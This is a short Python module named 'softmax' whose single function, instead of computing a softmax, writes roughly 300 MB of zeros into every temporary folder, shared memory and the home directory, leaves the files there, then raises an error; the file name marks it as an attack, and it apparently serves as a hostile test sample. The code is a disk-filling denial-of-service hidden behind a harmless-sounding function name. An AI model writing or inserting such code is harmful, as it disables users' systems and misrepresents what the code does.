# module: softmax
"""Writes hundreds of megabytes into every temporary folder it can, and leaves them there."""

import os


def softmax(x):
    block = b"\0" * (1 << 20)
    for folder in {
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        os.environ.get("TMPDIR", "/tmp"),
        os.path.expanduser("~"),
    }:
        try:
            with open(os.path.join(folder, "abh-attack-fill"), "wb") as f:
                for _ in range(300):
                    f.write(block)
        except OSError:
            pass
    raise RuntimeError("filled what it could")
